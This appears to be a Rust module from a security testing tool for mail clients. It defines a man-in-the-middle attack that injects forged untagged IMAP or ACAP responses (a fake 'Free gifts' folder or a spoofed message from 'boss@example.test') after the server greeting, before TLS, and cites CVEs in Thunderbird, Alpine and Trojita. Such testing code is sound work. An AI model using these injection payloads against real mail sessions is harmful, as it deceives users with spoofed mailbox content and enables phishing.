//! Tells the client of mailboxes and messages before anybody logged in.

use super::{Attack, Deciding, Group, tamper};
use crate::base::{Protocol, Switch, switch};
use crate::harm::success;

switch!(
    Middle DATA,
    "data",
    Setting,
    &["folder", "message"],
    &[],
    "Forged data",
    "A folder, or, in IMAP, a message."
);

static SWITCHES: &[&Switch] = &[&DATA];

static DECIDING: &[Deciding] = &[Deciding {
    protocols: &[Protocol::Imap, Protocol::Acap],
    given: &[],
    right: &[],
    wrong: &["client.early-mailbox-data=on"],
}];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "untagged-data-pre-tls",
    title: "Forge mailbox data",
    about: "Adds data about folders and messages behind the greeting, in the clear, which a careless client keeps for good.",
    group: Group::Injection,
    known: &["CVE-2021-29969 Thunderbird", "CVE-2021-38370 Alpine", "CVE-2021-38372 Trojita"],
    protocols: &[Protocol::Imap, Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let message_too = switches.get(&DATA) == "message";
        tamper(move |message, moves| {
            moves.pass();
            if !message.is_greeting() {
                return;
            }
            let data: &[u8] = match dialect.protocol {
                Protocol::Acap => b"* ADDTO \"ctx\" \"Free gifts\" 1 (\"click here\")\r\n",
                _ if message_too => b"* 1 FETCH (BODY[] {32}\r\nFrom: boss@example.test\r\n\r\nhello)\r\n",
                _ => b"* LIST () \"/\" \"Free gifts\"\r\n",
            };
            moves.add(data.to_vec());
        })
    },
    success: &success::FORGED_MAILBOX,
    deciding: DECIDING,
};
